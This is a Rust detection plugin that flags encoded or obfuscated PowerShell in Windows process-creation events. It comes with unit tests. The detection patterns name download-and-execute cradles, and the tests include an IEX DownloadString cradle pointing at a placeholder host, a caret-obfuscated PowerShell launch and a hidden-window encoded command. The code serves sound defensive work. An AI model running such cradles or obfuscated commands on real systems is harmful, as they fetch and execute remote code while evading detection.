//! Detects encoded or obfuscated PowerShell in process-creation events
//! (Sysmon event 1 and Windows Security event 4688).
//!
//! Two rules:
//! - `vigil.powershell.encoded-command`: PowerShell started with
//!   `-EncodedCommand` (or any prefix PowerShell accepts: `-e`, `-ec`, `-enc`,
//!   ..., also with `/`) followed by a Base64 payload. The decoded script is
//!   attached as evidence.
//! - `vigil.powershell.obfuscated-command`: PowerShell command lines that
//!   decode Base64 at run time, download-and-execute, build strings from
//!   `[char]` codes, reverse strings, or hide the word `powershell` with
//!   carets. Only checked when the encoded rule did not fire.
//!
//! Config: `min_payload_length` (default 16): shorter Base64 arguments are
//! ignored.

use vigil_sdk::{Config, Detector, Event, Finding, Findings, PluginError, Severity};

/// Command-line fields, by event shape: Sysmon 1 and Security 4688 both use
/// `CommandLine`; the image is `Image` (Sysmon) or `NewProcessName` (4688).
const COMMAND_LINE: &str = "Event.EventData.CommandLine";
const IMAGES: [&str; 2] = ["Event.EventData.Image", "Event.EventData.NewProcessName"];

/// Lower-case fragments that mark run-time deobfuscation or download cradles.
const OBFUSCATION_MARKERS: [(&str, &str); 4] = [
    ("frombase64string(", "decodes Base64 at run time"),
    ("downloadstring(", "downloads and runs a script"),
    ("downloaddata(", "downloads and runs a payload"),
    ("[-1..-", "reverses a string at run time"),
];

/// The detector; configuration is read once per instance.
pub struct EncodedPowerShell {
    min_payload_length: usize,
}

impl Detector for EncodedPowerShell {
    fn init(config: &Config) -> Result<Self, PluginError> {
        Ok(EncodedPowerShell {
            min_payload_length: config.u64_or("min_payload_length", 16)? as usize,
        })
    }

    fn fields(&self) -> Option<Vec<String>> {
        Some(
            std::iter::once(COMMAND_LINE)
                .chain(IMAGES)
                .map(str::to_owned)
                .collect(),
        )
    }

    fn detect(&mut self, event: &Event<'_>, findings: &mut Findings) {
        let Some(command_line) = event.str(COMMAND_LINE) else {
            return;
        };
        let image = IMAGES.iter().find_map(|path| event.str(path)).unwrap_or("");
        if !is_powershell(image, command_line) {
            return;
        }
        if let Some(payload) = encoded_payload(command_line, self.min_payload_length) {
            let mut finding = Finding::new(
                "vigil.powershell.encoded-command",
                "PowerShell started with an encoded command",
                Severity::High,
            )
            .technique("T1059.001")
            .technique("T1027")
            .evidence("Image", image)
            .evidence("CommandLine", command_line);
            if let Some(script) = decode_utf16_base64(payload) {
                finding = finding.evidence("DecodedCommand", truncate(&script, 512));
            }
            findings.push(finding);
        } else if let Some(reason) = obfuscation(command_line) {
            findings.push(
                Finding::new(
                    "vigil.powershell.obfuscated-command",
                    "Obfuscated PowerShell command line",
                    Severity::Medium,
                )
                .technique("T1059.001")
                .technique("T1027.010")
                .evidence("Image", image)
                .evidence("CommandLine", command_line)
                .evidence("Reason", reason),
            );
        }
    }
}

vigil_sdk::export_detector!(EncodedPowerShell);

fn ends_with_ignore_case(haystack: &str, needle: &str) -> bool {
    haystack.len() >= needle.len()
        && haystack.as_bytes()[haystack.len() - needle.len()..]
            .eq_ignore_ascii_case(needle.as_bytes())
}

/// Whether the process is PowerShell, by image or (for carets hiding the
/// name inside a `cmd /c` line) by the de-careted command line.
fn is_powershell(image: &str, command_line: &str) -> bool {
    ["powershell.exe", "pwsh.exe"]
        .iter()
        .any(|exe| ends_with_ignore_case(image, exe))
        || {
            let plain = command_line.replace('^', "").to_ascii_lowercase();
            plain.contains("powershell") || plain.contains("pwsh")
        }
}

/// The Base64 argument of an `-EncodedCommand`-style flag, if any.
///
/// PowerShell accepts any prefix of a parameter name, and `-e`/`-ec` are
/// documented aliases of `-EncodedCommand`.
fn encoded_payload(command_line: &str, min_len: usize) -> Option<&str> {
    let mut tokens = command_line.split_ascii_whitespace();
    while let Some(token) = tokens.next() {
        let Some(name) = token.strip_prefix('-').or_else(|| token.strip_prefix('/')) else {
            continue;
        };
        let name = name.to_ascii_lowercase();
        let is_encoded_flag =
            name == "ec" || (!name.is_empty() && "encodedcommand".starts_with(&name));
        if !is_encoded_flag {
            continue;
        }
        let payload = tokens.next()?.trim_matches(|c| c == '"' || c == '\'');
        if payload.len() >= min_len && payload.bytes().all(is_base64_byte) {
            return Some(payload);
        }
    }
    None
}

fn is_base64_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'='
}

/// Why the command line looks obfuscated, if it does.
fn obfuscation(command_line: &str) -> Option<&'static str> {
    if command_line.matches('^').count() >= 3 {
        let plain = command_line.replace('^', "").to_ascii_lowercase();
        if plain.contains("powershell") || plain.contains("pwsh") {
            return Some("hides the PowerShell name with carets");
        }
    }
    let lower = command_line.to_ascii_lowercase();
    if lower.matches("[char]").count() >= 3 {
        return Some("builds strings from character codes");
    }
    OBFUSCATION_MARKERS
        .iter()
        .find(|(marker, _)| lower.contains(marker))
        .map(|(_, reason)| *reason)
}

/// Decode Base64 of UTF-16LE text, as `-EncodedCommand` requires.
fn decode_utf16_base64(payload: &str) -> Option<String> {
    let bytes = decode_base64(payload)?;
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    Some(String::from_utf16_lossy(&units))
}

fn decode_base64(input: &str) -> Option<Vec<u8>> {
    fn sextet(b: u8) -> Option<u32> {
        Some(match b {
            b'A'..=b'Z' => b - b'A',
            b'a'..=b'z' => b - b'a' + 26,
            b'0'..=b'9' => b - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            _ => return None,
        } as u32)
    }
    let trimmed = input.trim_end_matches('=');
    let mut out = Vec::with_capacity(trimmed.len() * 3 / 4);
    let mut acc = 0u32;
    let mut bits = 0;
    for b in trimmed.bytes() {
        acc = (acc << 6) | sextet(b)?;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
        }
    }
    Some(out)
}

fn truncate(s: &str, max_chars: usize) -> String {
    match s.char_indices().nth(max_chars) {
        Some((i, _)) => format!("{}…", &s[..i]),
        None => s.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use vigil_sdk::testing::TestHost;

    fn sysmon(image: &str, command_line: &str) -> String {
        serde_json_line(image, command_line)
    }

    fn serde_json_line(image: &str, command_line: &str) -> String {
        let esc = |s: &str| s.replace('\\', "\\\\").replace('"', "\\\"");
        format!(
            r#"{{"Event":{{"System":{{"EventID":1}},"EventData":{{"Image":"{}","CommandLine":"{}"}}}}}}"#,
            esc(image),
            esc(command_line)
        )
    }

    fn rules(image: &str, command_line: &str) -> Vec<String> {
        TestHost::new()
            .run::<EncodedPowerShell>(&sysmon(image, command_line))
            .expect("detect")
            .into_iter()
            .map(|f| f.rule_id)
            .collect()
    }

    const PS: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

    #[test]
    fn encoded_command_flag_prefixes_are_detected_and_decoded() {
        // "whoami" as UTF-16LE Base64.
        let payload = "dwBoAG8AYQBtAGkA";
        for flag in ["-enc", "-e", "-EC", "/EncodedCommand", "-encodedc"] {
            let line = format!("powershell.exe -NoP -W Hidden {flag} {payload}");
            let findings = TestHost::new()
                .config("min_payload_length", "8")
                .run::<EncodedPowerShell>(&sysmon(PS, &line))
                .expect("detect");
            assert_eq!(findings.len(), 1, "flag {flag}");
            assert_eq!(findings[0].rule_id, "vigil.powershell.encoded-command");
            assert!(
                findings[0]
                    .evidence
                    .contains(&("DecodedCommand".into(), "whoami".into()))
            );
        }
    }

    #[test]
    fn execution_policy_flag_is_not_mistaken_for_encoded_command() {
        assert!(
            rules(
                PS,
                "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1"
            )
            .is_empty()
        );
        assert!(rules(PS, "powershell.exe -Command Get-Service").is_empty());
    }

    #[test]
    fn obfuscation_markers_fire_only_without_an_encoded_flag() {
        assert_eq!(
            rules(
                PS,
                "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')"
            ),
            ["vigil.powershell.obfuscated-command"]
        );
        assert_eq!(
            rules(
                r"C:\Windows\System32\cmd.exe",
                "cmd /c p^o^w^e^r^s^h^e^l^l -nop -c calc"
            ),
            ["vigil.powershell.obfuscated-command"]
        );
        assert_eq!(
            rules(PS, "powershell -c ([char]73+[char]69+[char]88)"),
            ["vigil.powershell.obfuscated-command"]
        );
    }

    #[test]
    fn non_powershell_processes_are_ignored() {
        assert!(
            rules(
                r"C:\Program Files\Git\bin\git.exe",
                "git commit -e dwBoAG8AYQBtAGkAdwBoAG8AYQBtAGkA"
            )
            .is_empty()
        );
    }
}
